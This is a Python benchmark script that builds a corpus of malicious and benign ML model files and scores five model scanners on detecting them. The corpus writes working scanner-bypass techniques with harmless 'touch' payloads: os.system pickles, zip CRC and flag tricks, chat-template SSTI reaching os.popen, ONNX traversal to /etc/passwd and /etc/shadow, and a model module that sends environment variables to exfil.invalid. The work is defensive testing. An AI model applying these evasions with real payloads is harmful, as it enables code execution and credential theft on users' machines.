"""Detection benchmark: mlwarden against picklescan, modelscan, fickling and ModelAudit.

    python benchmarks/detection.py [--work DIR] [--skip TOOL ...] [--sample N]
                                   [--modelaudit-budget SECONDS] [--timeout SECONDS]
                                   [--verbose]

1. Builds a labelled corpus in WORK/corpus: one file (or model repository) per published
   bypass technique of docs/../scanner-landscape.md with a harmless payload (it could only
   touch WORK/marker/NEVER-CREATED; nothing is ever loaded), and benign models written by the
   real libraries. Generators live in tests/corpus/ and below.
2. Runs every tool on every sample, one process per sample with its natural CLI invocation
   and a per-sample timeout. The peers are installed on first use into WORK/peers (a venv:
   ``pip install picklescan modelscan fickling modelaudit``).
3. Prints per technique class which tools caught what, then detection, false-alarm, noise
   and error rates, wall time, and mlwarden's ratio against each peer on the samples that
   peer ran. Writes everything to WORK/results.json.

Outcome mapping (one of alarm / warn / clean / error per tool and sample; see
docs/detection.md for the reasoning):
- mlwarden  ``scan --format json --fail-on never``: summary verdict malicious -> alarm,
  suspicious -> warn, unscannable -> error, clean -> clean.
- picklescan ``-p PATH``: "Dangerous globals: N>0" -> alarm (even when it exits 2 after a
  parse error: it did print the global); else exit 2 or "Scanned files: 0" -> error;
  "Suspicious globals: N>0" -> warn (exit 0); else clean.
- modelscan ``-p PATH -r json -o OUT``: any issue (any severity) -> alarm; else errors,
  exit 2/3 or nothing scanned -> error; else clean.
- fickling ``--check-safety --json-output OUT PATH`` (one JSON object per stacked pickle):
  any severity above LIKELY_SAFE -> alarm (what exit 1 means); else exit 0 -> clean; else
  error (parse failure, traceback, directory).
- ModelAudit ``scan --format json --no-cache -o OUT PATH``: any issue of severity warning
  or critical -> alarm (what exit 1 means); else exit 2, has_errors or nothing scanned ->
  error; else clean.
Any timeout or crash is an error.
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import onnx

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tests"))  # tests/corpus generators

DEFAULT_WORK = Path("/tmp/mlwarden-detection")
PEERS = ("picklescan", "modelscan", "fickling", "modelaudit")
TOOLS = ("mlwarden", *PEERS)
PEER_PACKAGES = ["picklescan", "modelscan", "fickling", "modelaudit"]

MALICIOUS_CLASSES = ("denylist-gap", "parser-divergence", "broken-stream", "container",
                     "other-format", "remote-code")
BENIGN_CLASSES = ("benign-pickle", "benign-torch", "benign-transformers", "benign-format",
                  "benign-repo")

# Samples mlwarden is known to miss (name -> reason); kept in the benchmark, excluded from
# the test's 100% assertion. The coordinator fixes scanner code, then removes the entry.
KNOWN_GAPS: dict[str, str] = {
    "tf-readfile": "ReadFile is tf-file-read-op (suspicious) by policy; modelscan rates it "
                   "HIGH: a model can return any host file to whoever calls it",
}

# Benign samples for which mlwarden's "suspicious" is the documented, accepted verdict.
ACCEPTABLE_SUSPICIOUS: dict[str, str] = {
    "torch-full-module-zip": "a pickled nn.Module is a whole pickled object "
                             "(pickle-unknown-global on torch.nn classes reconstructed)",
    "torch-full-module-legacy": "same, legacy serialisation",
}


@dataclass(frozen=True)
class Sample:
    name: str
    cls: str  # technique class or benign kind
    malicious: bool
    path: str  # relative to the corpus directory; a directory for repositories
    note: str = ""


@dataclass(frozen=True)
class Outcome:
    result: str  # alarm | warn | clean | error | skipped
    seconds: float
    detail: str = ""


# ============================================================================ corpus


class _Corpus:
    def __init__(self, root: Path, marker: Path) -> None:
        self.root = root
        self.marker = marker
        self.samples: list[Sample] = []

    def add(self, name: str, cls: str, malicious: bool, path: Path, note: str = "") -> None:
        self.samples.append(Sample(name, cls, malicious, str(path.relative_to(self.root)),
                                   note))

    def write(self, rel: str, data: bytes, name: str, cls: str, malicious: bool,
              note: str = "") -> Path:
        p = self.root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        self.add(name, cls, malicious, p, note)
        return p


_PARSER_DIVERGENCE = ("memo-", "stack-global-from-", "dotted-", "inst-opcode", "obj-opcode",
                      "obj-call-popped", "frame-divergence", "ext-code", "build-mutates",
                      "newobj-ex")


def _pickle_class(name: str) -> str:
    if name.startswith("broken-stream"):
        return "broken-stream"
    if name.startswith(_PARSER_DIVERGENCE):
        return "parser-divergence"
    return "denylist-gap"


def _pickle_techniques(c: _Corpus) -> None:
    from corpus.pickles import malicious_samples

    for name, data in malicious_samples(str(c.marker)).items():
        c.write(f"pickle/{name}.pkl", data, name, _pickle_class(name), True)


def _compress(kind: str, data: bytes) -> bytes:
    import bz2
    import gzip
    import lzma
    import zlib

    import lz4.frame

    fns: dict[str, Callable[[bytes], bytes]] = {
        "zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress,
        "xz": lzma.compress, "lz4": lz4.frame.compress}
    return bytes(fns[kind](data))


def _container_techniques(c: _Corpus) -> None:
    import io
    import tarfile

    import py7zr

    from corpus.containers import mutate_zip, payload_pickle, tar_of, torch_zip, zip_of
    from corpus.pickles import (
        call_global,
        joblib_payload_after_buffer,
        npy_object_payload,
        torch_legacy_with_payload,
    )

    cls = "container"
    plain = call_global("os", "system", f"touch {c.marker}")
    (c.root / "zip").mkdir(parents=True, exist_ok=True)
    for rel in ("ext/pytorch_model.bin", "ext/model.pt", "ext/weights.model",
                "ext/model.ckpt", "ext/model.safetensors"):
        c.write(rel, plain, f"extension-{Path(rel).name}", cls, True,
                "plain pickle under a non-pickle extension (CVE-2025-1889, CVE-2025-10155)")
    evil_zip = torch_zip(c.root / "zip/torch-payload.pt", c.marker)
    c.add("torch-zip-payload", cls, True, evil_zip, "baseline: payload in data.pkl")
    data = evil_zip.read_bytes()
    tricks: dict[str, tuple[dict[str, object], str]] = {
        "zip-bad-crc": ({"crc": True}, "CVE-2025-10156"),
        "zip-local-name-mismatch": ({"rename_local": True}, "CVE-2025-1944"),
        "zip-flag-0x1-local": ({"lh_flags": 0x1}, "CVE-2025-1945"),
        "zip-flag-0x20-local": ({"lh_flags": 0x20}, "CVE-2025-1945"),
        "zip-flag-0x40-local": ({"lh_flags": 0x40}, "CVE-2025-1945"),
        "zip-all-tricks": ({"crc": True, "rename_local": True, "lh_flags": 0x41}, "combined"),
    }
    for name, (kw, note) in tricks.items():
        c.write(f"zip/{name}.pt", mutate_zip(data, "data.pkl", **kw),
                name, cls, True, note)
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        z.writestr(data, "pytorch_model.bin")
    c.write("zip/torch-in-7z.7z", buf.getvalue(), "torch-7z-recompressed", cls, True)
    for i in range(1, 6):
        note = "GHSA-97f8-7cmv-76j2" if i == 1 else "payload in a later stacked pickle"
        c.write(f"legacy/legacy-pickle-{i}.pt", torch_legacy_with_payload(str(c.marker), i),
                f"torch-legacy-pickle-{i}", cls, True, note)
    jl = joblib_payload_after_buffer(str(c.marker))
    c.write("joblib/after-buffer.joblib", jl, "joblib-payload-after-buffer", cls, True)
    for kind in ("zlib", "gzip", "bz2", "xz", "lz4"):
        c.write(f"joblib/compressed-{kind}.joblib", _compress(kind, jl),
                f"joblib-compressed-{kind}", cls, True)
    npy = npy_object_payload(str(c.marker))
    c.write("npy/object-payload.npy", npy, "npy-object-array", cls, True)
    c.write("npy/object-payload.npz", zip_of({"arr_0.npy": npy}), "npz-object-array", cls,
            True)
    pk = payload_pickle(c.marker)
    c.write("archive/pickle-in.zip", zip_of({"model/model.pkl": pk}), "pickle-in-zip", cls,
            True)
    c.write("archive/pickle-in.tar", tar_of({"model/model.pkl": pk}), "pickle-in-tar", cls,
            True)
    tgz = io.BytesIO()
    with tarfile.open(fileobj=tgz, mode="w:gz") as t:
        ti = tarfile.TarInfo("model.pkl")
        ti.size = len(pk)
        t.addfile(ti, io.BytesIO(pk))
    c.write("archive/pickle-in.tar.gz", tgz.getvalue(), "pickle-in-tar-gz", cls, True)
    c.write("archive/nested.zip", zip_of({"inner.zip": zip_of({"model.pkl": pk})}),
            "pickle-in-nested-zip", cls, True)
    _container_extras(c, data, pk)


def _container_extras(c: _Corpus, torch_data: bytes, pk: bytes) -> None:
    """Variants beyond the published list, to probe our own edges."""
    import zipfile

    import joblib
    import numpy as np

    from corpus.containers import Payload, RawEntry, benign_pickle, build_zip, zip_of
    from corpus.pickles import call_global, call_stack_global

    cls = "container"
    shell = f"touch {c.marker}"
    # torch.storage._load_from_bytes is torch.load of constant bytes: a nested pickle.
    c.write("pickle/torch-load-from-bytes.pkl", call_stack_global(
        "torch.storage", "_load_from_bytes", call_global("os", "system", shell)),
        "torch-storage-load-from-bytes", "denylist-gap", True)
    # getattr on an allowlisted module reaching a dangerous attribute.
    c.write("pickle/getattr-via-torch-module.pkl",
            b"\x80\x04\x8c\x08builtins\x8c\x07getattr\x93\x8c\x12torch.serialization"
            b"\x8c\x06pickle\x93\x8c\x05loads\x86R" + b"\x8c\x01x\x85R.",
            "getattr-on-allowlisted-module", "denylist-gap", True)
    # A protocol-0 pickle is plain ASCII: named like a vocabulary file.
    c.write("ext/vocab.txt", b"cos\nsystem\n(S'" + shell.encode() + b"'\ntR.",
            "extension-protocol0-vocab.txt", cls, True, "ASCII pickle under a text name")
    c.write("ext/config.yaml", b"cposix\nsystem\n(S'" + shell.encode() + b"'\ntR.",
            "extension-protocol0-config.yaml", cls, True)
    # Extra pickle member inside a torch zip, next to a benign data.pkl.
    c.write("zip/extra-member.pt", zip_of({"archive/data.pkl": benign_pickle(),
                                           "archive/extra/hidden.pkl": pk,
                                           "archive/version": b"3\n"}),
            "torch-zip-extra-pickle-member", cls, True)
    # pickle + zip polyglot: pickle.load runs the prefix, zip readers see a checkpoint.
    c.write("zip/polyglot.pt", build_zip([RawEntry("archive/data.pkl", benign_pickle())],
                                         prefix=pk),
            "pickle-zip-polyglot", cls, True)
    # Generic zip (not torch) whose pickle member has a bad CRC.
    c.write("archive/bad-crc.zip", _bad_crc_zip({"model.pkl": pk}), "pickle-in-zip-bad-crc",
            cls, True)
    # joblib object array whose elements pickle a payload (nested pickle.load in joblib).
    p = c.root / "joblib" / "object-array.joblib"
    joblib.dump([np.arange(4.0), np.array([Payload(c.marker), 1], dtype=object)], p)
    c.add("joblib-object-array-payload", cls, True, p)
    # Payload stored (not deflated) in a zip member with an innocent name.
    c.write("archive/stored.zip", zip_of({"weights/shard-00001.bin": pk},
                                         compress=zipfile.ZIP_STORED),
            "pickle-in-zip-innocent-name", cls, True)
    del torch_data


def _bad_crc_zip(members: dict[str, bytes]) -> bytes:
    from corpus.containers import mutate_zip, zip_of

    return bytes(mutate_zip(zip_of(members), "", crc=True))


_TEMPLATES = {
    "gguf-template-attr-concat": (
        "{{ (cycler|attr('__in' ~ 'it__')|attr('__glo' ~ 'bals__'))['os'].popen('touch "
        "MARKER').read() }}{% for m in messages %}{{ m.content }}{% endfor %}"),
    "gguf-template-set-dunder": (
        "{% set g = '__glo' + 'bals__' %}{% set i = '__init__' %}"
        "{{ lipsum[g]['os'].popen('touch MARKER').read() }}"
        "{% for m in messages %}{{ m.content }}{% endfor %}"),
    "gguf-template-subclasses": (
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == "
        "'Popen' %}{{ c('touch MARKER', shell=True) }}{% endif %}{% endfor %}"),
}


def _safetensors(header: dict[str, object] | bytes, declared: int | None = None,
                 body: bytes = b"") -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if declared is None else declared) + raw + body


def _other_formats(c: _Corpus) -> None:
    from corpus.formats import MARKER_CMD, build_all, saved_model, tf_graph

    skip = {"keras-unknown-module"}  # suspicious by design, neither label fits
    for name, (path, verdict) in build_all(c.root / "formats").items():
        if name in skip:
            continue
        if verdict == "clean":
            c.add(name, "benign-format", False, path)
        else:
            c.add(name, "other-format", True, path)
    oob: dict[str, object] = {
        "w": {"dtype": "F32", "shape": [2], "data_offsets": [2**48, 2**48 + 8]}}
    c.write("formats/oob.safetensors", _safetensors(oob, body=b"\0" * 8),
            "safetensors-offset-out-of-bounds", "other-format", True)
    c.write("formats/huge-header.safetensors", _safetensors(b'{"w":{}}', declared=2**40),
            "safetensors-huge-header", "other-format", True)
    for name, op in (("tf-writefile", "WriteFile"), ("tf-readfile", "ReadFile"),
                     ("tf-pyfunc-only", "PyFunc")):
        d = c.root / "formats" / name
        d.mkdir(parents=True, exist_ok=True)
        pb = saved_model(tf_graph([("x", "Placeholder"), ("f", "Const"), ("op", op)]))
        (d / "saved_model.pb").write_bytes(pb)
        c.add(name, "other-format", True, d / "saved_model.pb")
    _onnx_absolute(c)
    _onnx_nested(c)
    _gguf(c.root / "formats" / "named-template.gguf",
          "{% for m in messages %}{{ m.content }}{% endfor %}",
          {"tokenizer.chat_template.tool_use": _TEMPLATES["gguf-template-attr-concat"]
           .replace("MARKER", str(c.marker))})
    c.add("gguf-named-template-ssti", "other-format", True,
          c.root / "formats" / "named-template.gguf", "payload in a named template only")
    for name, template in _TEMPLATES.items():
        p = c.root / "formats" / f"{name}.gguf"
        _gguf(p, template.replace("MARKER", str(c.marker)))
        c.add(name, "other-format", True, p, "chat template SSTI (CVE-2024-34359)")
    del MARKER_CMD


def _onnx_absolute(c: _Corpus) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    graph = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"])], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
        [numpy_helper.from_array(np.ones(2, np.float32), "w")])
    m = helper.make_model(graph)
    t = m.graph.initializer[0]
    t.ClearField("raw_data")
    t.data_location = TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = "location", "/etc/passwd"
    c.write("formats/absolute.onnx", m.SerializeToString(), "onnx-external-absolute",
            "other-format", True, "CVE-2024-27318")
    del onnx


def _external(name: str, location: str) -> onnx.TensorProto:
    import numpy as np
    from onnx import TensorProto, numpy_helper

    t = numpy_helper.from_array(np.ones(2, np.float32), name)
    t.ClearField("raw_data")
    t.data_location = TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = "location", location
    return t


def _onnx_nested(c: _Corpus) -> None:
    """External-data traversal hidden in an If branch and in a Constant node attribute."""
    from onnx import TensorProto, helper

    def out(n: str) -> onnx.ValueInfoProto:
        return helper.make_tensor_value_info(n, TensorProto.FLOAT, [2])

    then = helper.make_graph([helper.make_node("Identity", ["w"], ["o"])], "then", [],
                             [out("o")], [_external("w", "../../../../etc/passwd")])
    other = helper.make_graph([helper.make_node("Identity", ["x"], ["o2"])], "else", [],
                              [out("o2")])
    g = helper.make_graph([helper.make_node("If", ["c"], ["y"], then_branch=then,
                                            else_branch=other)], "g",
                          [helper.make_tensor_value_info("c", TensorProto.BOOL, []), out("x")],
                          [out("y")])
    c.write("formats/subgraph.onnx", helper.make_model(g).SerializeToString(),
            "onnx-traversal-in-subgraph", "other-format", True)
    g = helper.make_graph([helper.make_node("Constant", [], ["y"],
                                            value=_external("k", "/etc/shadow"))],
                          "g", [], [out("y")])
    c.write("formats/constant-node.onnx", helper.make_model(g).SerializeToString(),
            "onnx-traversal-in-constant-node", "other-format", True)


def _remote_code(c: _Corpus) -> None:
    from corpus import repos

    for name, (builder, _expect) in repos.MALICIOUS.items():
        d = c.root / "repos" / f"evil-{name}"
        builder(d, c.marker)
        c.add(f"repo-{name}", "remote-code", True, d)
    for name, (module, code) in _load_time_code(c.marker).items():
        d = c.root / "repos" / f"evil-{name}"
        if module == "hubconf":
            d.mkdir(parents=True, exist_ok=True)
            (d / "hubconf.py").write_text(code)
        else:
            repos._evil_repo(d, "modeling_evil", code if module == "modeling_evil" else
                             "import torch.nn as nn\n\n\nclass EvilForCausalLM(nn.Module):\n"
                             "    pass\n")
            if module == "configuration_evil":
                (d / "configuration_evil.py").write_text(code)
        c.add(f"repo-{name}", "remote-code", True, d,
              "runs on every load, though not at import time")
    for name, code in _evasive_import_code(c.marker).items():
        d = c.root / "repos" / f"evil-{name}"
        repos._evil_repo(d, "modeling_evil", code + repos._MODEL_TAIL)
        c.add(f"repo-{name}", "remote-code", True, d, "process started at import time")
    d = c.root / "repos" / "evil-chat-template"
    repos.evil_template(d)
    c.add("repo-chat-template-ssti", "remote-code", True, d,
          "chat template reaching os.popen (CVE-2024-34359 class)")
    for name, fn in (("phi", repos.benign_phi_repo), ("falcon", repos.benign_falcon_repo)):
        d = c.root / "repos" / f"benign-{name}"
        fn(d)
        c.add(f"repo-benign-{name}", "benign-repo", False, d)


def _load_time_code(marker: Path) -> dict[str, tuple[str, str]]:
    """Payloads in code that every load runs, though not on import: transformers
    instantiates the auto_map'd config and model classes in from_pretrained, torch.hub.load
    calls the entry point. {name: (module, source)}."""
    from corpus.repos import GUARD

    m = str(marker)
    return {
        "model-init-process": ("modeling_evil", f"""import os
import torch.nn as nn


class EvilForCausalLM(nn.Module):
    def __init__(self, config):
        super().__init__()
        os.system("touch " + {m!r})
        self.proj = nn.Linear(4, 4)
"""),
        "config-init-process": ("configuration_evil", f"""import subprocess
from transformers import PretrainedConfig


class EvilConfig(PretrainedConfig):
    model_type = "evil"

    def __init__(self, **kwargs):
        subprocess.Popen(["touch", {m!r}])
        super().__init__(**kwargs)
"""),
        "model-init-exfiltration": ("modeling_evil", f"""import os
import urllib.parse
import urllib.request
import torch.nn as nn


class EvilForCausalLM(nn.Module):
    def __init__(self, config):
        super().__init__()
        open({m!r}, "a").close()
        if os.environ.get({GUARD!r}):
            urllib.request.urlopen("http://exfil.invalid/?" + urllib.parse.urlencode(
                dict(os.environ)))
        self.proj = nn.Linear(4, 4)
"""),
        "hubconf-entrypoint-process": ("hubconf", f"""dependencies = ["torch"]
import os


def tinynet(pretrained=False, **kwargs):
    os.system("touch " + {m!r})
    return None
"""),
    }


def _evasive_import_code(marker: Path) -> dict[str, str]:
    """Import-time process starts spelled in ways a resolver must follow."""
    m = str(marker)
    return {
        "module-dict-call": f'import os\nimport torch.nn as nn\n\n'
                            f'os.__dict__["sys" + "tem"]("touch {m}")\n',
        "vars-module-call": f'import os\nimport torch.nn as nn\n\n'
                            f'vars(os)["system"]("touch {m}")\n',
        "alias-in-dict-call": f'from os import system as s\nimport torch.nn as nn\n\n'
                              f'HOOKS = {{"go": s}}\nHOOKS["go"]("touch {m}")\n',
        "loop-variable-call": f'import os\nimport torch.nn as nn\n\n'
                              f'for fn in [os.system]:\n    fn("touch {m}")\n',
        # "import os\ncmd = ..." parses as protocol-0 INST opcodes: sniffed as a pickle,
        # the Python analysis never runs.
        "sniffed-as-pickle": f'import os\ncmd = ["touch", "{m}"]\nos.execvp if False else None\n'
                             f'import pty\nimport torch.nn as nn\npty.spawn(cmd)\n',
    }


_TORCH_BENIGN = {"state_dict.pt": "torch-state-dict-zip",
                 "state_dict_legacy.pt": "torch-state-dict-legacy",
                 "torch_module.pt": "torch-full-module-zip",
                 "torch_module_legacy.pt": "torch-full-module-legacy",
                 "checkpoint.pt": "torch-training-checkpoint",
                 "pytorch_model.bin": "transformers-pytorch-model-bin",
                 "training_args.bin": "transformers-training-args"}


def _benign(c: _Corpus, *, fast: bool) -> None:
    import joblib
    import numpy as np
    import torch
    from sklearn.ensemble import RandomForestClassifier

    from corpus.containers import mutate_zip
    from corpus.pickles import write_benign
    from corpus.repos import CHATML_TEMPLATE, LLAMA2_TEMPLATE

    for fname, path in write_benign(c.root / "benign", transformers=not fast).items():
        if fname in _TORCH_BENIGN:
            name = _TORCH_BENIGN[fname]
            cls = "benign-transformers" if name.startswith("transformers") else "benign-torch"
        else:
            name, cls = f"benign-{fname}", "benign-pickle"
        c.add(name, cls, False, path)
    d = c.root / "benign"
    x = np.random.default_rng(0).random((30, 3))
    forest = RandomForestClassifier(n_estimators=2, random_state=0).fit(x, x[:, 0] > 0.5)
    for kind in ("gzip", "bz2", "xz", "lz4"):
        p = d / f"forest-{kind}.joblib"
        joblib.dump(forest, p, compress=(kind, 3))
        c.add(f"sklearn-joblib-{kind}", "benign-pickle", False, p)
    np.savez(d / "arrays.npz", a=np.arange(4), s=np.array(["x", "yy"]))
    c.add("numpy-npz", "benign-pickle", False, d / "arrays.npz")

    class Net(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.fc = torch.nn.Linear(4, 2)

        def forward(self, t: torch.Tensor) -> torch.Tensor:
            return torch.relu(self.fc(t))

    import warnings

    with warnings.catch_warnings():  # torch.jit is deprecated, and still what users load
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(Net()), str(d / "scripted.pt"))
    c.add("torchscript", "benign-torch", False, d / "scripted.pt")
    # jina-embeddings-v2-base-en's pytorch_model.bin: a real benign zip with bad CRCs.
    sd = {f"encoder.layer.{i}.weight": torch.ones(4, 4) * i for i in range(3)}
    jina = d / "jina-style-pytorch_model.bin"
    torch.save(sd, jina)
    jina.write_bytes(mutate_zip(jina.read_bytes(), "", crc=True))
    c.add("torch-zip-bad-crc-jina-style", "benign-torch", False, jina)
    for name, template in (("llama2", LLAMA2_TEMPLATE), ("chatml", CHATML_TEMPLATE)):
        _gguf(d / f"chat-{name}.gguf", template)
        c.add(f"gguf-chat-template-{name}", "benign-format", False, d / f"chat-{name}.gguf")
    if not fast:
        _save_pretrained(c, d / "hf-bert")


def _gguf(path: Path, template: str, extra: dict[str, str] | None = None) -> None:
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(str(path), "llama")
    w.add_chat_template(template)
    for key, value in (extra or {}).items():
        w.add_string(key, value)
    w.add_tensor("token_embd.weight", np.ones((4, 8), np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def _save_pretrained(c: _Corpus, d: Path) -> None:
    from transformers import BertConfig, BertModel

    cfg = BertConfig(vocab_size=32, hidden_size=8, num_hidden_layers=1, num_attention_heads=2,
                     intermediate_size=8, max_position_embeddings=16)
    BertModel(cfg).save_pretrained(d)
    c.add("transformers-model-safetensors", "benign-transformers", False,
          d / "model.safetensors")
    c.add("transformers-save-pretrained-dir", "benign-transformers", False, d)


def build_corpus(work: Path, *, fast: bool = False) -> list[Sample]:
    """Write the labelled corpus under WORK/corpus (replacing it) and return its samples.

    ``fast`` leaves out the transformers models (the slowest writer)."""
    root = work / "corpus"
    if root.exists():
        shutil.rmtree(root)
    root.mkdir(parents=True)
    marker = work / "marker" / "NEVER-CREATED"
    marker.parent.mkdir(parents=True, exist_ok=True)
    c = _Corpus(root, marker)
    _pickle_techniques(c)
    _container_techniques(c)
    _other_formats(c)
    _remote_code(c)
    _benign(c, fast=fast)
    names = [s.name for s in c.samples]
    assert len(names) == len(set(names)), "duplicate sample names"
    (work / "corpus.json").write_text(json.dumps([asdict(s) for s in c.samples], indent=1))
    return c.samples


# ============================================================================ tools


def _env() -> dict[str, str]:
    env = dict(os.environ)
    env.update(PROMPTFOO_DISABLE_TELEMETRY="1", DO_NOT_TRACK="1", HF_HUB_OFFLINE="1",
               HF_HUB_DISABLE_TELEMETRY="1", NO_COLOR="1", TERM="dumb")
    return env


def _run(cmd: list[str], timeout: float, cwd: Path) -> tuple[int | None, str, str, float]:
    """(exit code or None on timeout, stdout, stderr, seconds)."""
    start = time.perf_counter()
    try:
        p = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, cwd=cwd,
                           env=_env(), stdin=subprocess.DEVNULL, errors="replace")
    except subprocess.TimeoutExpired:
        return None, "", "", time.perf_counter() - start
    return p.returncode, p.stdout, p.stderr, time.perf_counter() - start


def _last_line(text: str) -> str:
    lines = [ln.strip() for ln in text.strip().splitlines() if ln.strip()]
    return lines[-1][:160] if lines else ""


def mlwarden_outcome(verdict: str, rules: list[str]) -> str:
    return {"malicious": "alarm", "suspicious": "warn", "unscannable": "error",
            "clean": "clean"}[verdict]


def _significant_rules(files: list[dict[str, object]]) -> list[str]:
    rules: set[str] = set()
    for f in files:
        for fd in f["findings"]:  # type: ignore[attr-defined]
            if fd["severity"] != "info":
                rules.add(fd["rule"])
    return sorted(rules)


def run_mlwarden(path: Path, timeout: float, tmp: Path) -> Outcome:
    rc, out, err, secs = _run([sys.executable, "-m", "mlwarden", "scan", "--format", "json",
                               "--fail-on", "never", "--workers", "1", str(path)], timeout, tmp)
    if rc is None:
        return Outcome("error", secs, "timeout")
    try:
        doc = json.loads(out)
        verdict = doc["summary"]["verdict"]
    except (ValueError, KeyError, TypeError):
        return Outcome("error", secs, f"exit {rc}: {_last_line(err)}")
    rules = _significant_rules(doc["files"])
    return Outcome(mlwarden_outcome(verdict, rules), secs, ",".join(rules))


def mlwarden_inprocess(path: Path) -> Outcome:
    """The same mapping through the API (used by the test: no subprocess per file)."""
    from mlwarden.scan.engine import ScanOptions, scan_paths

    start = time.perf_counter()
    report = scan_paths([str(path)], ScanOptions(workers=1))
    rules = _significant_rules([f.to_dict() for f in report.files])
    return Outcome(mlwarden_outcome(report.verdict.value, rules),
                   time.perf_counter() - start, ",".join(rules))


def _summary_int(text: str, label: str) -> int | None:
    for line in text.splitlines():
        if line.startswith(label + ":"):
            try:
                return int(line.split(":", 1)[1])
            except ValueError:
                return None
    return None


def run_picklescan(path: Path, timeout: float, tmp: Path, bindir: Path) -> Outcome:
    rc, out, err, secs = _run([str(bindir / "picklescan"), "-p", str(path)], timeout, tmp)
    if rc is None:
        return Outcome("error", secs, "timeout")
    dangerous = _summary_int(out, "Dangerous globals")
    suspicious = _summary_int(out, "Suspicious globals")
    scanned = _summary_int(out, "Scanned files")
    if dangerous:
        return Outcome("alarm", secs, f"{dangerous} dangerous globals (exit {rc})")
    if rc == 2 or not scanned:
        return Outcome("error", secs, f"exit {rc}, scanned {scanned}: "
                                      f"{_last_line(err) or _last_line(out)}")
    if suspicious:
        return Outcome("warn", secs, f"{suspicious} suspicious globals")
    return Outcome("clean", secs, f"exit {rc}")


def run_modelscan(path: Path, timeout: float, tmp: Path, bindir: Path) -> Outcome:
    report = tmp / "modelscan.json"
    report.unlink(missing_ok=True)
    rc, out, err, secs = _run([str(bindir / "modelscan"), "-p", str(path), "-r", "json",
                               "-o", str(report)], timeout, tmp)
    if rc is None:
        return Outcome("error", secs, "timeout")
    try:
        doc = json.loads(report.read_text())
    except (OSError, ValueError):
        return Outcome("error", secs, f"exit {rc}: {_last_line(err) or _last_line(out)}")
    issues = doc.get("issues") or []
    if issues:
        sev = sorted({i.get("severity", "?") for i in issues})
        return Outcome("alarm", secs, f"{len(issues)} issues {sev}")
    scanned = (doc.get("summary", {}).get("scanned") or {}).get("total_scanned", 0)
    if doc.get("errors") or rc in (2, 3) or not scanned:
        errs = doc.get("errors") or []
        msg = errs[0].get("description", "") if errs and isinstance(errs[0], dict) else ""
        return Outcome("error", secs, f"exit {rc}, scanned {scanned}: {msg[:120]}")
    return Outcome("clean", secs, f"exit {rc}")


_FICKLING_RANK = {"LIKELY_SAFE": 0, "POSSIBLY_UNSAFE": 1, "SUSPICIOUS": 2, "LIKELY_UNSAFE": 3,
                  "LIKELY_OVERTLY_MALICIOUS": 4, "OVERTLY_MALICIOUS": 5}


def _json_objects(text: str) -> list[dict[str, object]]:
    """fickling appends one JSON object per stacked pickle to the same file."""
    dec = json.JSONDecoder()
    out: list[dict[str, object]] = []
    i = 0
    while True:
        while i < len(text) and text[i].isspace():
            i += 1
        if i >= len(text):
            return out
        try:
            obj, i = dec.raw_decode(text, i)
        except ValueError:
            return out
        if isinstance(obj, dict):
            out.append(obj)


def run_fickling(path: Path, timeout: float, tmp: Path, bindir: Path) -> Outcome:
    if path.is_dir():
        return Outcome("error", 0.0, "directories are not supported by the CLI")
    report = tmp / "fickling.json"
    report.unlink(missing_ok=True)
    rc, out, err, secs = _run([str(bindir / "fickling"), "--check-safety", "--json-output",
                               str(report), str(path)], timeout, tmp)
    if rc is None:
        return Outcome("error", secs, "timeout")
    try:
        objs = _json_objects(report.read_text())
    except OSError:
        objs = []
    sevs = [str(o.get("severity")) for o in objs]
    worst = max(sevs, key=lambda s: _FICKLING_RANK.get(s, 0), default="")
    if worst and _FICKLING_RANK.get(worst, 0) > 0:
        return Outcome("alarm", secs, worst)
    if rc == 0:
        return Outcome("clean", secs, worst or "no pickle analysed")
    return Outcome("error", secs, f"exit {rc}: {_last_line(err) or _last_line(out)}")


def run_modelaudit(path: Path, timeout: float, tmp: Path, bindir: Path) -> Outcome:
    report = tmp / "modelaudit.json"
    report.unlink(missing_ok=True)
    rc, out, err, secs = _run([str(bindir / "modelaudit"), "scan", "--format", "json",
                               "--no-cache", "-o", str(report), str(path)], timeout, tmp)
    if rc is None:
        return Outcome("error", secs, "timeout")
    try:
        doc = json.loads(report.read_text())
    except (OSError, ValueError):
        return Outcome("error", secs, f"exit {rc}: {_last_line(err) or _last_line(out)}")
    issues = [i for i in doc.get("issues") or []
              if str(i.get("severity", "")).lower() in ("critical", "warning")]
    if issues:
        crit = sum(1 for i in issues if str(i.get("severity")).lower() == "critical")
        return Outcome("alarm", secs, f"{crit} critical, {len(issues) - crit} warning: "
                                      f"{str(issues[0].get('message', ''))[:100]}")
    if rc == 2 or doc.get("has_errors") or not doc.get("files_scanned"):
        return Outcome("error", secs, f"exit {rc}: {_last_line(err)[:120]}")
    return Outcome("clean", secs, f"exit {rc}")


def ensure_peers(work: Path) -> Path | None:
    """WORK/peers/bin with the four peers, installed on first use; None if impossible."""
    venv = work / "peers"
    bindir = venv / "bin"
    if all((bindir / t).exists() for t in PEERS):
        return bindir
    print(f"installing peers into {venv} ...", file=sys.stderr)
    try:
        subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
        subprocess.run([str(bindir / "pip"), "install", "-q", *PEER_PACKAGES], check=True)
